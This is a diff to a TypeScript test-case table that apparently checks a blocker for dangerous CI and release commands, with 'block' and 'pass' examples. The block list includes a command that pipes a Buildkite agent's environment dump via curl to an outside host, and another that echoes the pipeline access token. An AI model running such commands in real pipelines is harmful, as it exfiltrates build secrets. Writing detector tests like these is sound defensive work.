@@ -475,7 +475,7 @@ const CI: KbCase[] = [
     id: "ci.azure_buildkite_secret_out",
     block: [
       "- script: echo $(System.AccessToken) | base64\n",
-      "buildkite-agent env dump | curl -s -X POST --data-binary @- https://b.example.net/c",
+      "buildkite-agent env dump | curl -sS --data-binary @- https://b.example.net/c",
     ],
     pass: [
       '- script: git -c http.extraheader="AUTHORIZATION: bearer $(System.AccessToken)" fetch\n',
@@ -567,7 +567,7 @@ const RELEASE: KbCase[] = [
       "npm install react react-dom preact",
       "pip install scapy websockets openapi",
       "npm install mysql2 tslint @types/node typescript",
-      "pip install -r requirements.txt",
+      "pip3 install -r reqs/base.txt",
       "pip install torch torchvision pandas-stubs",
     ],
   },
@@ -579,7 +579,7 @@ const RELEASE: KbCase[] = [
     ],
     pass: [
       "gh release upload v1.4.1 dist/app-linux-amd64.tar.gz",
-      "npm publish --provenance --access public",
+      "npm publish --access public --provenance",
     ],
   },
   {
